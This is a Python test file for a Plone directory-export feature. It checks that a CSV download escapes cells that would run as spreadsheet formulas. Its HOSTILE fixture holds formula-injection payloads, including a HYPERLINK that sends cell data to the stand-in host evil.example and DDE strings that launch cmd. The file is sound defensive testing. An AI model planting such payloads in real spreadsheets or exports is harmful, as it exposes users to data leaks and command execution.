"""CSV formula injection: cells a spreadsheet would run come back quoted.

The probe imported cells like ``=HYPERLINK(…)`` and ``=cmd|' /C calc'!A0``
and got them back unchanged from ``@directory-export?format=csv``, which
Anonymous may download.
"""

from plone import api
from plone.app.testing import TEST_USER_ID
from plone.app.testing import setRoles
from zwgk.directories import spreadsheet as directory_io
from zwgk.directories.importer import import_directory
from zwgk.directories.importer import rows
from zwgk.directories.importer import vocabularies
from zwgk.testing import create_finance_unit
from zwgk.testing.directories import HEADER
from zwgk.testing.directories import row

import csv
import io
import openpyxl
import pytest
import requests
import transaction


HOSTILE = {
    "item_level1": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "content": "=cmd|' /C calc'!A0",
    "basis": "+1+cmd|' /C calc'!A0",
    "time_limit": "-2+3+cmd|' /C calc'!A0",
    "responsible_body": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HARMLESS = {
    "item_level2": "-5",  # a number: a spreadsheet reads -5, nothing runs
    "content": "＝全角等号不是公式",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def xlsx(*table):
    workbook = openpyxl.Workbook()
    for values in table:
        workbook.active.append(values)
    for cells in workbook.active.iter_rows():
        for cell in cells:
            cell.data_type = "s"  # as typed text, not formulas
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def cells(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_export_quotes_cells_a_spreadsheet_would_run():
    item = dict.fromkeys(directory_io.TEXT_FIELDS, "公开")
    item.update(HOSTILE, channels=[], levels=[], audience="", mode="")
    other = dict.fromkeys(directory_io.TEXT_FIELDS, "公开")
    other.update(HARMLESS, channels=[], levels=[], audience="", mode="")
    tab = dict(other, item_level1="\t=1+1", basis="\r=1+1")
    no_titles = {field: {} for field in ("channels", "audience", "mode", "levels")}
    table = cells(directory_io.export_csv([item, other, tab], no_titles))
    for value in table[1] + table[3]:
        assert value == "-5" or not value.startswith(FORMULA_START), value
    assert table[1][1] == "'" + HOSTILE["item_level1"]
    assert table[1][3] == "'=cmd|' /C calc'!A0"
    assert table[2][2] == "-5"
    assert table[2][3] == "＝全角等号不是公式"
    assert table[3][1] == "'\t=1+1"


def test_exported_csv_imports_back_unchanged(directory, manager):
    hostile = row("政府预算", "-5", **HOSTILE)
    import_directory(directory, xlsx(HEADER, hostile), "目录.xlsx")
    before = rows(directory)
    assert before[0]["content"] == HOSTILE["content"]  # stored as given
    exported = directory_io.export_csv(before, vocabularies(directory))
    copy = api.content.create(
        container=directory.aq_parent,
        type="DisclosureDirectory",
        id="copy",
        title="副本",
        area="budgets-and-final-accounts",
        level="district",
    )
    import_directory(copy, exported, "目录.csv")
    assert rows(copy) == before


@pytest.fixture
def public_directory(functional_portal):
    portal = functional_portal
    setRoles(portal, TEST_USER_ID, ["Manager"])
    unit, directory = create_finance_unit(portal)
    api.content.transition(obj=unit, to_state="published")
    import_directory(
        directory, xlsx(HEADER, row("政府预算", "部门预算", **HOSTILE)), "目录.xlsx"
    )
    api.content.transition(obj=directory, to_state="published")
    transaction.commit()
    return directory.absolute_url()


@pytest.mark.parametrize(
    "path", ["@directory-export?format=csv", "@@directory-export?format=csv"]
)
def test_anonymous_download_has_no_formula(public_directory, path):
    answer = requests.get(
        f"{public_directory}/{path}", headers={"Accept": "application/json"}, timeout=30
    )
    assert answer.status_code == 200, answer.text[:300]
    table = cells(answer.content)
    assert len(table) == 2
    for value in table[1]:
        assert not value.startswith(FORMULA_START), value
    assert table[1][1] == "'" + HOSTILE["item_level1"]
